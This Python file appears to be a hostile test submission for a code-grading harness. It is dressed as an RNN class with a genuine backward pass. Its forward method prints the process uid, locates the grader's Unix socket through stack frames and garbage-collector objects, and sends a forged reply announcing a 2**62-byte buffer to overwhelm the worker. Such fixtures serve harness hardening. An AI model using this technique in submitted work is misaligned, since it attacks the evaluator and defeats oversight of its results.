# Writes a well-framed reply on the worker's socket that announces one buffer of 2**62 bytes.
import json
import os
import struct
import sys


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_socket():
    frame = sys._getframe()
    while frame is not None:
        sock = getattr(frame.f_locals.get("self"), "sock", None)
        if sock is not None and hasattr(sock, "sendall"):
            return sock
        frame = frame.f_back
    import gc
    import socket
    for obj in gc.get_objects():       # not found on the stack: any connected unix stream socket
        if isinstance(obj, socket.socket) and obj.fileno() >= 0 and obj.family == socket.AF_UNIX \
                and obj.type == socket.SOCK_STREAM:
            return obj
    raise RuntimeError("hostile: the worker's socket was not found")


class RNN:
    def __init__(self, hidden_size, vocab_size, seq_length, learning_rate):
        self.hidden_size, self.vocab_size = hidden_size, vocab_size
        self.seq_length, self.learning_rate = seq_length, learning_rate
        self.W_xh = np.random.randn(hidden_size, vocab_size) * 0.01
        self.W_hh = np.random.randn(hidden_size, hidden_size) * 0.01
        self.W_yh = np.random.randn(vocab_size, hidden_size) * 0.01
        self.b = np.zeros((hidden_size, 1))
        self.c = np.zeros((vocab_size, 1))

    def forward(self, inputs, hprev):
        """ATTACK: send a reply header with n=1 and a buffer length of 2**62, then return normally."""
        _hostile_uid()
        header = json.dumps({"h": {"value": {"__nd__": 0, "dtype": "<f8", "shape": [2**59]}, "output": ""}, "n": 1}).encode()
        _hostile_socket().sendall(struct.pack("!I", len(header)) + header + struct.pack("!Q", 2**62) + b"\0" * 4096)
        return {}, {}, {}

    def update_model(self, dW_xh, dW_hh, dW_yh, db, dc):
        self.W_xh = self.W_xh - self.learning_rate * dW_xh
        self.W_hh = self.W_hh - self.learning_rate * dW_hh
        self.W_yh = self.W_yh - self.learning_rate * dW_yh
        self.b = self.b - self.learning_rate * db
        self.c = self.c - self.learning_rate * dc

    def backward(self, xs, hs, ps, targets):
        steps = len(targets)
        X = np.hstack([xs[t] for t in range(steps)])            # (V, T)
        H = np.hstack([hs[t] for t in range(steps)])            # (H, T)
        H_prev = np.hstack([hs[t - 1] for t in range(steps)])   # (H, T)
        dY = np.hstack([ps[t] for t in range(steps)])
        dY[targets, np.arange(steps)] -= 1                      # p_t - y_t, every step at once
        dH_out = self.W_yh.T @ dY                               # what each h_t gets from its output
        delta = np.zeros_like(H)
        carry = np.zeros((self.hidden_size, 1))
        for t in reversed(range(steps)):                        # only the recurrence needs a loop
            delta[:, t:t + 1] = (1 - H[:, t:t + 1] ** 2) * (dH_out[:, t:t + 1] + carry)
            carry = self.W_hh.T @ delta[:, t:t + 1]
        return (delta @ X.T, delta @ H_prev.T, dY @ H.T, delta.sum(axis=1, keepdims=True),
                dY.sum(axis=1, keepdims=True))
